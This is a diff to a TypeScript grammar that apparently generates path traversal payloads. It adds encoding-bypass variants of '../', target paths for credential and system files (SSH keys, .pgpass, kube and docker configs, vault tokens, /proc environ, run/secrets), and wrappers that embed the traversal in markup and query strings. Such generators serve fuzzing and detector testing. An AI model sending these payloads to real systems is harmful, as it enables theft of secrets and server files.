@@ -4,8 +4,12 @@ import { basics, createExpander, type Grammar } from "../grammar.ts";
 const grammar: Grammar = {
   ...basics,
   traversal:
-    "‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›‹tail›\n/‹ups›‹target›\n‹word›/‹ups›‹target›\n/‹word›/‹ups›‹target›‹tail›\n‹absolute›\n‹absolute›‹tail›\n‹ups›\n‹ups›‹word›\n‹ups›‹word›.‹php|txt|conf|log|bak|xml|ini|json|yml›\n‹windows›\n‹word›=‹ups›‹target›\nfile=‹ups›‹target›\n?‹word›=‹ups›‹target›\n‹word›.‹jpg|png|pdf›/‹ups›‹target›\n./‹ups›‹target›\n\\‹ups›‹target›\n‹zip›",
-  up: "../\n../\n../\n../\n../\n..\\\n..\\\n....//\n..../\n....\\\\\n..%2f\n%2e%2e/\n%2e%2e%2f\n%2e%2e%2F\n..%5c\n%2e%2e%5c\n%252e%252e%252f\n..%252f\n..%255c\n%c0%ae%c0%ae/\n..%c0%af\n%c0%ae%c0%ae%c0%af\n..%c1%9c\n%uff0e%uff0e/\n..%u2215\n..;/\n.././\n..//\n../\\\n.%2e/\n%2e./\n..0x2f\n0x2e0x2e/\n..\\/\n\\..\\\n/../\n..\\\\\n%%32%65%%32%65/\n..%00/\n.../...//\n%25252e%25252e%25252f\n..∕\n．．／\n\\.\\./\n..%2f../",
+    "‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›\n‹ups›‹target›‹tail›\n/‹ups›‹target›\n‹word›/‹ups›‹target›\n/‹word›/‹ups›‹target›‹tail›\n‹absolute›\n‹absolute›‹tail›\n‹ups›\n‹ups›‹word›\n‹ups›‹word›.‹php|txt|conf|log|bak|xml|ini|json|yml›\n‹windows›\n‹word›=‹ups›‹target›\nfile=‹ups›‹target›\n?‹word›=‹ups›‹target›\n‹word›.‹jpg|png|pdf›/‹ups›‹target›\n./‹ups›‹target›\n\\‹ups›‹target›\n‹zip›\n‹ups›‹place›\n/‹word›/‹ups›‹place›\n‹ups›‹place›‹tail›\n‹wrapped›",
+  place:
+    "var/lib/‹word›/‹word›.‹db|sqlite|sqlite3|sock›\nvar/log/‹word›/‹word›.log\nvar/www/‹word›/‹word›.‹php|ini|conf|py›\nopt/‹word›/conf/‹word›.‹yml|xml|properties|json›\nsrv/‹word›/‹word›/settings.py\nhome/‹word›/.‹pgpass|netrc|npmrc|my.cnf|docker/config.json|kube/config|bash_profile|vault-token›\nroot/.‹pgpass|netrc|ssh/id_ed25519|mysql_history|python_history›\netc/‹word›/‹word›.‹conf|ini|cnf|yaml›\nusr/share/‹word›/‹word›.‹inc|cfg›\nrun/secrets/‹word›\nproc/‹nn›/‹environ|cmdline|maps|root/etc/passwd›\nsys/class/net/eth0/address\ndata/‹word›.‹db|json|bak›\n‹word›/‹word›/‹word›.‹db|key|pem|env›\nUsers/‹word›/AppData/Roaming/‹word›/‹word›.‹ini|json›",
+  wrapped:
+    '[[‹word›(‹ups›‹place›)]]\n[[Include(‹ups›‹target›)]]\n{{‹word›:‹ups›‹target›}}\n![‹word›](‹ups›‹target›)\n[‹word›](file:///‹place›)\n.. include:: ‹ups›‹target›\n\\input{‹ups›‹target›}\n{"‹word›":"‹ups›‹place›"}\n‹word›:‹word›/‹ups›‹place›\n@‹ups›‹target›\nattachment:‹ups›‹place›\n‹word›?‹word›=‹word›&‹word›=‹ups›‹place›',
+  up: "../\n../\n../\n../\n../\n..\\\n..\\\n....//\n..../\n....\\\\\n..%2f\n%2e%2e/\n%2e%2e%2f\n%2e%2e%2F\n..%5c\n%2e%2e%5c\n%252e%252e%252f\n..%252f\n..%255c\n%c0%ae%c0%ae/\n..%c0%af\n%c0%ae%c0%ae%c0%af\n..%c1%9c\n%uff0e%uff0e/\n..%u2215\n..;/\n.././\n..././\n..//\n../\\\n.%2e/\n%2e./\n..0x2f\n0x2e0x2e/\n..\\/\n\\..\\\n/../\n..\\\\\n%%32%65%%32%65/\n..%00/\n.../...//\n%25252e%25252e%25252f\n..∕\n．．／\n\\.\\./\n..%2f../",
   ups: (r) => {
     const up = r.pick(ups.split("\n"));
     const text = up.repeat(r.pick([1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 16]));
